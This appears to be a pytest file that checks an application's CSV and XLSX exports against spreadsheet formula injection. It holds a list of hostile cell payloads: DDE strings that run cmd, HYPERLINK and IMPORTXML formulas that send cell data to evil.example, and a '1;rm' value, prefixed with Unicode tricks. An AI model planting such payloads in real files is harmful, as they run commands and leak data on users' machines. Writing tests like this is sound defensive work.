"""S12: no cell of an export begins with what a spreadsheet runs, whatever people wrote."""

import csv
import io
import unicodedata
from collections.abc import Iterator
from dataclasses import fields, is_dataclass, replace
from itertools import cycle, product
from typing import Any

import openpyxl
import pytest

from questions.exporting import entries, tables
from reports.exporting.comma import export_csv
from reports.exporting.xlsx import export_xlsx
from tests.reports.debriefs import a_debrief

# OWASP's list (line feed included) with the full-width forms, behind what programs drop before they look.
TRIGGERS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "﹣")
BEFORE = ("", " ", "   ", '"', "'\"", "\u00a0", "\u200b", "\ufeff", "\u202e", "`", "“")
FORMULAS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"See")',
    "1+1",
    "SUM(A1:A9)*cmd|'/c notepad'!A1",
    'IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "WEBSERVICE(A1)",
    "1;rm",
)
HOSTILE = [before + trigger + formula for before, trigger, formula in product(BEFORE, TRIGGERS, FORMULAS)]
# What the code itself writes: words out of short lists, never a person's.
CODES = {
    *("level", "target_level", "verdict", "next_level", "recommendation", "confidence", "kind", "state", "seat"),
    *("arithmetic", "purpose"),
}


def begins_with_a_trigger(cell: str) -> bool:
    """Told apart from how the exports tell it: everything that is neither seen nor a letter is passed over."""
    seen = [c for c in cell if c not in "\"'`“”" and unicodedata.category(c) not in ("Zs", "Cf")]
    first = unicodedata.normalize("NFKC", seen[0]) if seen else ""
    return first in tuple("=+-@\t\r\n\0−") and not cell.startswith("'")


def csv_cells(file: bytes) -> Iterator[str]:
    for row in csv.reader(io.StringIO(file.decode("utf-8-sig"), newline="")):
        yield from row


def xlsx_cells(file: bytes) -> Iterator[str]:
    """Texts; a number that the product computed is none. A formula counts as a hit whatever it says."""
    for sheet in openpyxl.load_workbook(io.BytesIO(file)):
        for cell in (cell for row in sheet.iter_rows() for cell in row if cell.value is not None):
            assert cell.hyperlink is None
            if cell.data_type == "f":
                yield "=" + str(cell.value)
            elif cell.data_type == "s":
                yield str(cell.value)


def bank() -> list[entries.Entry]:
    words = cycle(HOSTILE)
    texts = ("identity", "title", "prompt", "answer", "answer_label", "topic")
    lists = ("key_points", "follow_ups", "red_flags", "tags")
    return [
        entries.Entry(
            **{name: next(words) for name in texts},
            **{name: [next(words), next(words)] for name in lists},
            level_answers={level: next(words) for level in tables.LEVELS},
        )
        for _ in range(90)
    ]


def poisoned(thing: Any, words: Iterator[str]) -> Any:
    """The same object with hostile words wherever a person's stand."""
    if isinstance(thing, str):
        return next(words)
    if isinstance(thing, tuple):
        return tuple(poisoned(each, words) for each in thing)
    if isinstance(thing, dict):
        return {key: poisoned(each, words) for key, each in thing.items()}
    if is_dataclass(thing) and not isinstance(thing, type):
        free = {field.name: getattr(thing, field.name) for field in fields(thing) if field.name not in CODES}
        return replace(thing, **{name: poisoned(value, words) for name, value in free.items()})
    return thing


@pytest.mark.parametrize(("write", "read"), [(tables.export_csv, csv_cells), (tables.export_xlsx, xlsx_cells)])
def test_s12_no_cell_of_the_bank_is_run(write: Any, read: Any) -> None:
    cells = list(read(write(bank())))
    assert [cell for cell in cells if begins_with_a_trigger(cell)] == []
    assert sum(any(word[-6:] in cell for word in HOSTILE[:8]) for cell in cells) >= 1_000


@pytest.mark.parametrize(("write", "read"), [(export_csv, csv_cells), (export_xlsx, xlsx_cells)])
def test_s12_no_cell_of_a_report_is_run(write: Any, read: Any) -> None:
    words = cycle(HOSTILE)
    cells = [cell for _ in range(12) for cell in read(write(poisoned(a_debrief(), words), None))]
    assert [cell for cell in cells if begins_with_a_trigger(cell)] == []
    assert sum(any(word[-6:] in cell for word in HOSTILE[:8]) for cell in cells) >= 300


@pytest.mark.parametrize(("write", "read"), [(tables.export_csv, csv_cells), (tables.export_xlsx, xlsx_cells)])
def test_s12_goes_red_without_the_control(write: Any, read: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "safe_cell", lambda text: text)
    assert [cell for cell in read(write(bank())) if begins_with_a_trigger(cell)]
